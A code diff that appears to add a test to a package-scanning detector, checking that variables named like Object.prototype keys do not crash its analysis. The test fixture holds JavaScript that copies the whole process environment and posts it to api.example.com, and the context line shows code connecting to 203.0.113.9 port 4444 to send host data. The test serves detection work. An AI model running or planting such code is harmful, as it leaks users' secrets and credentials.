@@ -675,3 +675,23 @@ const c = net.connect(4444, '203.0.113.9', () => c.write(os.hostname() + ':' + o
     expect(r.ids).toContain('exfiltration/flow');
   });
 });
+
+describe('names from the package are not Object.prototype keys', () => {
+  it('variables and functions named constructor, toString, valueOf or hasOwnProperty do not make the behaviour detectors throw (vite 5.4.21)', () => {
+    const source = `const https = require('https');
+let constructor = process.env.HOME;
+const toString = constructor + '/x';
+function valueOf(a) { return https.get(a); }
+valueOf(toString);
+const hasOwnProperty = { ...process.env };
+const req = https.request({ hostname: 'api.example.com' });
+req.end(JSON.stringify(hasOwnProperty));
+constructor = hasOwnProperty;
+`;
+    const analysis = analyzeJavaScript(source);
+    if (analysis.mode !== 'ast') throw new Error('not parsed');
+    expect(() => fileBehaviour(analysis)).not.toThrow();
+    const r = scan({ 'index.js': source }, { main: 'index.js' });
+    expect(r.ids).toContain('exfiltration/flow');
+  });
+});
